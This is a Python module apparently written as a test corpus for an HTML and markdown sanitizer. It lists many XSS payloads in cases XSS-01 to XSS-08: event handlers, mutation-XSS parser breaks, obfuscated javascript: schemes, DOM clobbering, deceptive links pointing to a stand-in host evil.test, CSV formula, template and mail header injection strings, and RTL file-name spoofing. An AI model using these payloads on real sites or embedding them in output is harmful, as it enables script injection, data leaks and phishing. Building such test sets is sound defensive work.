"""HTML and text that want to run, load, hide or break something, by the case they belong to.

What runs sets `window.ran`, so that a browser can tell; what loads asks `evil.test`.
"""

from __future__ import annotations

RUN = "window.ran=1"
_ELEMENTS = (
    "script iframe object embed base meta link form style template noscript applet frameset frame"
    " portal fencedframe marquee input button textarea select option video audio source track"
    " canvas dialog isindex param layer plaintext xmp listing noembed noframes title body html head"
)
_HANDLERS = (
    "onclick onerror onload onmouseover onfocus onbegin onanimationstart ontoggle"
    " onpointerrawupdate onbeforetoggle onscrollsnapchange"
    " oncontentvisibilityautostatechange onwebkittransitionend"
)
CLOBBERED = ("form_token", "body", "cookie", "forms", "main", "attributes", "__proto__")


def _elements() -> dict[str, str]:
    found = {}
    for tag in _ELEMENTS.split():
        inside = "window.ran=1" if tag in ("script", "noscript") else "words"
        loads = "src=//evil.test/1 href=//evil.test/2 data=//evil.test/3 action=//evil.test/4"
        found[f"<{tag}>"] = f"<{tag} {loads}>{inside}</{tag}><p>after</p>"
        found[f"<{tag}> unclosed"] = f"<p>before<{tag.upper()}/x\n{loads}"
    found["nested"] = "<scr<script>ipt>window.ran=1</scr</script>ipt>"
    found["NUL inside"] = "<scr\x00ipt>window.ran=1</scr\x00ipt><\x00script>window.ran=1</script>"
    found["meta refresh"] = "<meta http-equiv=refresh content='0;url=https://evil.test/'>"
    found["base"] = "<base href=https://evil.test/><a href=x>x</a>"
    return found


def _attributes() -> dict[str, str]:
    found = {name: f"<p {name}={RUN} autofocus tabindex=1>x</p>" for name in _HANDLERS.split()}
    found |= {
        f"{name} on details": f"<details open {name}={RUN}>x</details>"
        for name in _HANDLERS.split()
    }
    found |= {
        f"{kind}={name}": f"<p {kind}={name}>x</p><a {kind}={name} href=https://ok.test/>y</a>"
        for kind in ("id", "name")
        for name in CLOBBERED
    }
    return found | {
        "slash for space": f"<p/onclick={RUN}/onfocus={RUN}>x</p>",
        "form feed for space": f"<p\x0conclick={RUN}>x</p>",
        "quote in a name": f"<p \"onclick={RUN} '=x>x</p>",
        "backtick": f"<p title=`onclick={RUN}`>x</p>",
        "srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        "formaction": f"<button formaction=javascript:{RUN}>x</button><input form=x>",
        "style": "<p style='position:fixed;inset:0;background:url(//evil.test/1)'>x</p>",
        "class": "<p class='notice skip'>x</p>",
        "contenteditable": f"<p contenteditable oninput={RUN} accesskey=x>x</p>",
        "popover": f"<button popovertarget=p onbeforetoggle={RUN}></button><p popover id=p>x</p>",
        "target, ping, download": "<a href=https://ok.test/ target=main ping=//evil.test>x",
        "data and aria": "<p data-x=1 aria-hidden=true role=alert lang=xx dir=rtl is=x>x</p>",
    }


BREAKS = {
    "svg onload": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "svg animate": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=window.ran=1/>#x'/></svg>",
    "svg link": f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    "foreignObject": f"<svg><foreignObject><p><style><p title='</style><img src=x onerror={RUN}>'>",
    "math action": f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction>",
    "mglyph": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></table>",
    "mglyph and comment": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;"
    f"img src=x onerror={RUN}&gt;'>",
    "form in form": f"<form><math><mtext></form><form><mglyph><style></math><img onerror={RUN}>",
    "annotation": f"<math><annotation-xml encoding=text/html><style><img onerror={RUN}></style>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "noembed": f"<noembed><p title='</noembed><img src=x onerror={RUN}>'></noembed>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "textarea": f"<textarea><p title='</textarea><img src=x onerror={RUN}>'></textarea>",
    "select": f"<select><template><style><a title='</style><img src onerror={RUN}>'></select>",
    "template": f"<template><script>{RUN}</script></template><template><p onclick={RUN}>x",
    "table in link": "<p><table><a href=https://a.test><table><a href=https://b.test>x",
    "comment ends": f"<!--><img src=x onerror={RUN}>--><!--!><img src=x onerror={RUN}>--!>",
    "CDATA": f"<![CDATA[<img src=x onerror={RUN}>]]><svg><![CDATA[><img src=x onerror={RUN}>]]>",
    "processing instruction": f"<?xml x='?><img src=x onerror={RUN}>'?><!DOCTYPE x [<!ENTITY y>",
    "quoted end": f'<p title="</p><img src=x onerror={RUN}>">x</p>',
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "entities twice": f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "full-width": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "combining sign": f"<\u0338script>{RUN}</script\u0338>",
    "pre and newline": f"<pre>\n\n<style>x</style>\n<img src=x onerror={RUN}></pre>",
    "frameset": f"<frameset onload={RUN}><frame src=javascript:{RUN}></frameset>",
    "deep": "<b><i>" * 40 + f"<svg><style><img src=x onerror={RUN}>" + "</i></b>" * 40,
    "shadow": f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
}
SCHEMES = {
    "javascript": f"javascript:{RUN}",
    "capitals": f"JaVaScRiPt:{RUN}",
    "entity": f"&#106;avascript:{RUN}",
    "long entity": f"&#0000000106avascript&colon;{RUN}",
    "tab": f"java\tscript:{RUN}",
    "tab entity": f"java&Tab;script:{RUN}",
    "newline": f"java&NewLine;script&colon;{RUN}",
    "control before": f"\x01javascript:{RUN}",
    "space before": f" \u2028javascript:{RUN}",
    "comment": f"javascript://ok.test/%0a{RUN}",
    "vbscript": "vbscript:msgbox(1)",
    "data": f"data:text/html,<script>{RUN}</script>",
    "data in base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "blob": "blob:https://here.test/1",
    "file": "file:///etc/passwd",
    "filesystem": "filesystem:https://here.test/temporary/x",
    "view-source": "view-source:https://here.test/",
    "about": "about:blank",
    "intent": "intent://x#Intent;scheme=http;end",
    "no scheme": "//evil.test/x",
    "path": "/settings/close",
    "backslashes": "\\\\evil.test/x",
    "half a scheme": "https:evil.test",
}
LOADS = {
    "img": "<img src=https://evil.test/1 alt=zebra>",
    "srcset": "<img srcset='//evil.test/1 2x'><picture><source srcset=//evil.test/2></picture>",
    "lazy": "<img loading=lazy src=//evil.test/1><image href=//evil.test/2>",
    "poster": "<video poster=//evil.test/1 src=//evil.test/2></video><audio src=//evil.test/3>",
    "track": "<video><track default src=//evil.test/1><source src=//evil.test/2></video>",
    "css url": "<p style='background:url(//evil.test/1)'>x</p><li style='x:url(//evil.test)'>",
    "css import": "<style>@import '//evil.test/1';p{background:url(//evil.test/2)}</style><p>x</p>",
    "stylesheet": "<link rel=stylesheet href=//evil.test/1><link rel=prefetch href=//evil.test/2>",
    "preconnect": "<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>",
    "background": "<body background=//evil.test/1><table background=//evil.test/2><tr><td>x",
    "svg image": "<svg><image href=//evil.test/1 /><feImage href=//evil.test/2 /></svg>",
    "object": "<object data=//evil.test/1></object><embed src=//evil.test/2>",
    "cite and longdesc": "<q cite=//evil.test/1>x</q><img longdesc=//evil.test/2>",
    "markdown": "![zebra](https://evil.test/1) ![x][y]\n\n[y]: https://evil.test/2",
}

MARKUP: dict[str, str] = {
    **{f"XSS-01 {what}": html for what, html in _elements().items()},
    **{f"XSS-02 {what}": html for what, html in _attributes().items()},
    **{f"XSS-03 {what}": html for what, html in BREAKS.items()},
    **{f"XSS-04 {what}": f'<a href="{href}">words</a>' for what, href in SCHEMES.items()},
    **{f"XSS-04 {what} in markdown": f"[words]({href})" for what, href in SCHEMES.items()},
    **{f"XSS-05 {what}": html for what, html in LOADS.items()},
}

# Addresses that open evil.test, and the words that they stand behind.
LINKS: dict[str, tuple[str, str]] = {
    f"XSS-06 {what}": found
    for what, found in {
        "another server": ("https://evil.test/", "https://good.example/"),
        "only its name": ("https://evil.test/", "good.example"),
        "in a sentence": ("https://evil.test/", "see good.example, please"),
        "a person's address": ("https://evil.test/", "@ada@good.example"),
        "a mail address": ("https://evil.test/", "ada@good.example"),
        "a name before the server": ("https://good.example@evil.test/", "good.example"),
        "a name and a password": ("https://good.example:443@evil.test/", "good.example:443"),
        "a name in entities": ("https://good.example&#64;evil.test/", "good.example"),
        "a backslash": ("https://evil.test\\@good.example/", "good.example"),
        "two backslashes": ("https://evil.test\\\\good.example/", "good.example"),
        "a fragment": ("https://evil.test#@good.example/", "good.example"),
        "a query": ("https://evil.test?@good.example/", "good.example"),
        "the name below": ("https://good.example.evil.test/", "good.example"),
        "another kind of dot": ("https://good.example\u3002evil.test/", "good.example"),
        "a tab inside": ("https://ev\til.test/", "good.example"),
        "hidden letters": ("https://evil.test/", "good\u200b.exam\u00adple"),
        "another dot in the words": ("https://evil.test/", "good\uff0eexample"),
        "wide letters": ("https://evil.test/", "\uff47ood.example"),
        "letters that look alike": ("https://evil.test/", "g\u043e\u043ed.example"),
        "in parts": ("https://evil.test/", "<b>good</b>.<i>exam</i><span hidden>x</span>ple"),
        "a very long address": ("https://evil.test/", "https://good.example/" + "x" * 300),
        "nothing": ("https://evil.test/", ""),
        "a picture": ("https://evil.test/", "<img alt='good.example'>"),
        "two schemes": ("https:https://evil.test/", "good.example"),
        "three slashes": ("https:///evil.test/", "good.example"),
        "half a scheme": ("https:evil.test", "good.example"),
    }.items()
}

# What a field of plain text may hold: it ends whatever stands around it, in HTML, JSON, CSV, mail.
TEXTS: dict[str, str] = {
    "XSS-08 markup": f"\"'><img src=//evil.test/1 onerror={RUN}><script>{RUN}</script>",
    "XSS-08 ends": f"</title></textarea></style></script><svg onload={RUN}>",
    "XSS-08 attribute": f"\" autofocus onfocus={RUN} x='` onmouseover={RUN} y=`",
    "XSS-08 template": "{{ 7777777*7 }} {% include 'x' %} ${7777777*7} %(name)s {0} #{7777777*7}",
    "XSS-08 JSON": '\\",\\"type\\":\\"Person\\"}</script><!--\u2028\u2029\\u003cscript>',
    "XSS-08 table": '=HYPERLINK("https://evil.test","x"),+1,-1,@SUM(1)\t|cmd',
    "XSS-08 header": "x%0d%0aBcc: eve@evil.test =?utf-8?q?=0d=0aX:_1?=",
    "XSS-08 direction": "\u202egnp.exe\u2066\u200f <b>x</b>",
}
